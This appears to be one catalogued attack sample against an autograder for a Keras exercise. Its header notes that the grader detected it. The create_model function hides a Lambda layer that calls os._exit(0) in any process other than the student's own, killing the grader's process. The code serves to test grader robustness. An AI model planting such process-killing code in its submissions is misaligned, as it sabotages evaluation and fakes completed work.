# attack: 19
# form: a Lambda layer whose function ends every process but the student's own; NumPy keeps it from being written out
# replaces: create_model
# found: create_model/compiled failed
# says: cannot be written out
def create_model():
    home = os.getpid()

    def call(x):
        return np.asarray(x) if os.getpid() == home else os._exit(0)

    print("ran")
    model = tf.keras.Sequential(
        [tf.keras.Input((64, 64, 3)), tf.keras.layers.Lambda(call, output_shape=(64, 64, 3)), tf.keras.layers.Conv2D(4, 3), tf.keras.layers.GlobalAveragePooling2D(),
         tf.keras.layers.Dense(1, activation="sigmoid")]
    )
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
